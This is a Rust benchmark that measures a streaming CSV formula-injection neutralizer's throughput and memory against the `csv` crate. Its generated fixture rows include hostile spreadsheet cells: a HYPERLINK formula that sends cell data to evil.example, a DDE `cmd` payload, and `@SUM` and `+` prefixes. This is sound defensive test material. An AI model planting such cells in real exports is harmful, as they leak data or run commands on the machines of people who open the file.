//! CSV neutralizing throughput against the `csv` crate, and peak memory on a 100 MB export.
//!
//! * `csv/neutralize_stream`: the streaming rewriter over an 8 MiB, 10-column export fed in
//!   64 KiB chunks.
//! * `csv/csv_crate_roundtrip`: the baseline, `csv::Reader` (ByteRecord) + `csv::Writer` over the
//!   same bytes. Target: the rewriter at least 1.5x its throughput.
//! * `csv/csv_crate_read_only`: `csv::Reader` alone, the aim.
//!
//! Before criterion runs, a 100 MB export is streamed through the rewriter, generated chunk by
//! chunk so that nothing but the engine holds memory; the process's peak RSS (`VmHWM`) growth and
//! the engine's own buffer size are printed.

use std::hint::black_box;

use criterion::{Criterion, Throughput};
use safeguard::csv::Neutralizer;

const CHUNK: usize = 64 * 1024;

/// One record of 10 columns as an application would export it: ids, names, e-mail addresses,
/// amounts (some negative), dates, phone numbers, free text. About one record in 4 has cells the
/// `csv` crate's writer quotes (a comma, embedded `"`, a line break); one in 4 carries a hostile
/// cell (formula, DDE, `@SUM`, phone-like `+1 555`), quoted as well when it holds `,` or `"`.
fn record(i: usize) -> [String; 10] {
    let name = match i % 8 {
        3 => format!("Smith, J{i}"),
        6 if i % 32 == 6 => format!("O\"Brien \"Bob\" {i}"),
        _ => format!("user{i}"),
    };
    let comment = match i % 16 {
        0 => "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")".to_owned(),
        5 => "@SUM(A1:A9)".to_owned(),
        9 => "=cmd|' /C calc'!A0".to_owned(),
        12 => format!("line one\nline two, {i}"),
        13 => format!("+1 555 {i}"),
        _ => format!("comment number {i}"),
    };
    [
        i.to_string(),
        name,
        format!("user{i}@example.org"),
        if i % 5 == 0 {
            format!("-{}.{:02}", i % 1000, i % 100)
        } else {
            format!("{}.{:02}", i % 1000, i % 100)
        },
        format!("2024-{:02}-{:02}", i % 12 + 1, i % 28 + 1),
        format!("City {}", i % 50),
        comment,
        format!("555-01{:02}", i % 100),
        ["active", "suspended", "closed"][i % 3].to_owned(),
        (i * 7 % 10_000).to_string(),
    ]
}

/// Appends rows from `*next` on to `out` (through the `csv` crate's writer) until it holds at
/// least `bytes` bytes.
fn fill(out: &mut Vec<u8>, next: &mut usize, bytes: usize) {
    let mut w = csv::Writer::from_writer(std::mem::take(out));
    while w.get_ref().len() < bytes {
        for _ in 0..16 {
            w.write_record(record(*next)).expect("write");
            *next += 1;
        }
        w.flush().expect("flush");
    }
    *out = w.into_inner().expect("flush");
}

fn export(bytes: usize) -> Vec<u8> {
    let mut out = Vec::with_capacity(bytes + 4096);
    fill(&mut out, &mut 0, bytes);
    out
}

fn stream(nz: &Neutralizer, input: &[u8], out: &mut Vec<u8>) -> u64 {
    let mut rw = nz.rewriter();
    for chunk in input.chunks(CHUNK) {
        out.clear();
        rw.feed(chunk, out).expect("no reject");
        black_box(&out);
    }
    rw.finish(out).expect("no reject");
    rw.neutralized()
}

fn roundtrip(input: &[u8], out: &mut Vec<u8>) {
    out.clear();
    let mut rdr = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(input);
    let mut wtr = csv::WriterBuilder::new()
        .flexible(true)
        .from_writer(&mut *out);
    let mut rec = csv::ByteRecord::new();
    while rdr.read_byte_record(&mut rec).expect("read") {
        wtr.write_byte_record(&rec).expect("write");
    }
    wtr.flush().expect("flush");
}

fn read_only(input: &[u8]) -> usize {
    let mut rdr = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(input);
    let mut rec = csv::ByteRecord::new();
    let mut n = 0;
    while rdr.read_byte_record(&mut rec).expect("read") {
        n += rec.len();
    }
    n
}

fn vm_hwm_kib() -> Option<u64> {
    let status = std::fs::read_to_string("/proc/self/status").ok()?;
    let line = status.lines().find(|l| l.starts_with("VmHWM:"))?;
    line.split_whitespace().nth(1)?.parse().ok()
}

/// Streams `total` bytes generated chunk by chunk through the rewriter; prints peak RSS growth.
fn peak_memory(total: usize) {
    let nz = Neutralizer::new();
    // Warm up allocations the measurement should not count (the row generator's buffers).
    let mut rows = Vec::with_capacity(2 * CHUNK);
    let mut out = Vec::with_capacity(2 * CHUNK);
    let mut i = 0;
    // Touch the generator's and the output's buffers once so the measurement counts the engine.
    fill(&mut rows, &mut i, CHUNK);
    nz.rewriter().feed(&rows, &mut out).expect("no reject");
    let before = vm_hwm_kib();
    let mut rw = nz.rewriter();
    let (mut fed, mut max_out) = (0usize, 0usize);
    while fed < total {
        rows.clear();
        fill(&mut rows, &mut i, CHUNK);
        out.clear();
        rw.feed(&rows, &mut out).expect("no reject");
        max_out = max_out.max(out.capacity());
        black_box(&out);
        fed += &rows.len();
    }
    rw.finish(&mut out).expect("no reject");
    let after = vm_hwm_kib();
    println!(
        "peak memory: {} MB streamed, {} cells neutralized; engine buffers {} bytes; \
         largest output chunk buffer {} KiB; VmHWM growth {} KiB",
        fed / 1_000_000,
        rw.neutralized(),
        rw.buffer_bytes(),
        max_out / 1024,
        match (before, after) {
            (Some(b), Some(a)) => (a.saturating_sub(b)).to_string(),
            _ => "n/a".into(),
        }
    );
}

fn main() {
    let smoke = std::env::args().any(|a| a == "--test");
    peak_memory(if smoke { 2_000_000 } else { 100_000_000 });

    let input = export(8 * 1024 * 1024);
    let nz = Neutralizer::new();
    let mut out = Vec::with_capacity(input.len() * 2);
    let quoted = input
        .split(|&b| b == b'\n')
        .filter(|l| l.contains(&b'"'))
        .count();
    println!(
        "input: {} bytes, {} lines, {} with a quoted cell, {} cells neutralized",
        input.len(),
        input.iter().filter(|&&b| b == b'\n').count(),
        quoted,
        stream(&nz, &input, &mut out)
    );
    let mut c = Criterion::default().configure_from_args();
    let mut g = c.benchmark_group("csv");
    g.throughput(Throughput::Bytes(input.len() as u64));
    g.sample_size(10);
    g.bench_function("neutralize_stream", |b| {
        b.iter(|| stream(&nz, black_box(&input), &mut out))
    });
    g.bench_function("csv_crate_roundtrip", |b| {
        b.iter(|| roundtrip(black_box(&input), &mut out))
    });
    g.bench_function("csv_crate_read_only", |b| {
        b.iter(|| read_only(black_box(&input)))
    });
    g.finish();
    c.final_summary();
}
